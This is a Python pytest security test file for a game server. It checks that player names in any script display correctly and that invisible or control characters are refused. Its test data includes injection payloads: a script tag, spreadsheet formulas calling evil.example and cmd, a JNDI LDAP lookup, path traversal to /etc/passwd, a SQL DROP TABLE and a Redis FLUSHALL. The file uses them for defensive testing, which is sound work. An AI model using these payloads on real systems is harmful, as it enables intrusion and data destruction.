"""Names are any script's, never invisible, never able to change what stands beside them."""

from __future__ import annotations

import csv
import io
import time
import xml.etree.ElementTree as ET

import pytest

from tests.security.conftest import created, started

GOOD = {
    "Latin with a combining accent": "Zoe\u0308",
    "many combining marks": "Z\u0300\u0301\u0302\u0303\u0304algo",
    "Persian with a non-joiner": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "Hebrew": "\u05d3\u05d5\u05d3",
    "a family that joins": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a flag and a skin tone": "\U0001f1ee\U0001f1f7 \U0001f44b\U0001f3fd",
    "forty astral characters": "\U0001f3db" * 40,
    "markup": "<script>alert(1)</script>\"&'",
    "an XML end and a CDATA end": "]]></text>--><!--",
    "a formula": '=HYPERLINK("http://evil.example","1")',
    "another formula": "+1+cmd|' /C calc'!A0",
    "a template": "${jndi:ldap://x.example} {{7*7}} %s %n",
    "a path": "../../etc/passwd",
    "a statement": "'; DROP TABLE games; --",
    "Redis words": "*1\\r\\n$8\\r\\nFLUSHALL",
    "a hash tag": "{s00}:player}",
}
BAD = {
    "right-to-left override": "ab\u202ecd",
    "left-to-right embedding": "ab\u202acd",
    "pop": "ab\u202ccd",
    "isolate": "ab\u2066cd\u2069",
    "deprecated format character": "ab\u206acd",
    "NUL": "ab\u0000cd",
    "line feed": "ab\ncd",
    "carriage return": "ab\rcd",
    "escape": "ab\u001b[31mcd",
    "delete": "ab\u007fcd",
    "C1 control": "ab\u009bcd",
    "next line": "ab\u0085cd",
    "line separator": "ab\u2028cd",
    "no character": "ab\uffffcd",
    "swapped byte order": "ab\ufffecd",
    "annotation": "ab\ufff9cd",
    "blanks": "   ",
    "a no-break space": "\u00a0",
    "a zero-width space": "\u200b",
    "a joiner": "\u200d",
    "a soft hyphen": "\u00ad",
    "a Hangul filler": "\u3164",
    "a Braille blank": "\u2800",
    "a byte order mark": "\ufeff",
    "forty-one characters": "a" * 41,
    "forty-one astral characters": "\U0001f3db" * 41,
    "nothing": "",
}


@pytest.mark.parametrize("name", GOOD.values(), ids=GOOD)
def test_a_name_is_shown_everywhere_as_it_was_given(client, name):
    table = started(client, name=name)
    assert table.game()["seats"][0]["name"] == name
    assert table.get("/events").json["events"][1]["data"]["name"] == name
    listed = client.get("/v1/games", query_string={"player": name}).json["games"]
    assert table.id in [game["id"] for game in listed]


@pytest.mark.parametrize("name", GOOD.values(), ids=GOOD)
def test_a_picture_stays_a_picture(client, name):
    table = started(client, name=name)
    response = table.get("/board.svg")
    root = ET.fromstring(response.text)
    names = [text.text or "" for text in root.iter("{http://www.w3.org/2000/svg}text")]
    assert any(name in text for text in names)
    assert not [
        tag for tag in root.iter() if tag.tag.rpartition("}")[2] in ("script", "a", "image")
    ]
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize("name", GOOD.values(), ids=GOOD)
def test_a_table_is_no_program(client, name):
    table = started(client, name=name)
    text = table.get("/events", Accept="text/csv").text
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == table.game()["version"] + 1
    assert {len(row) for row in rows} == {12}
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r\n" and cell]


@pytest.mark.parametrize("name", BAD.values(), ids=BAD)
def test_a_bad_name_is_refused_wherever_one_is_taken(client, name):
    table = created(client)
    for response in (
        client.post("/v1/games", json={"name": name}),
        table.post("/seats", {"name": name}),
        client.get("/v1/games", query_string={"player": name}),
    ):
        assert (response.status_code, response.json["code"]) == (422, "validation_failed")
        assert name not in response.text or not name.strip()
    assert table.game()["version"] == 2


@pytest.mark.parametrize(
    "text",
    ["a" * 15_000 + "\u202e", " " * 15_000, "a " * 7_500 + "\n", "\u200b" * 2_500, "!" * 15_000],
    ids=["visible", "blank", "mixed", "invisible", "ascii"],
)
@pytest.mark.parametrize("member", ["name", "invite", "notation"])
def test_a_hostile_text_costs_no_more_than_its_length(client, member, text):
    table = started(client)
    path = "/steps" if member == "notation" else "/seats"
    begin = time.perf_counter()
    assert table.post(path, {member: text}, 1).status_code == 422
    assert time.perf_counter() - begin < 0.25
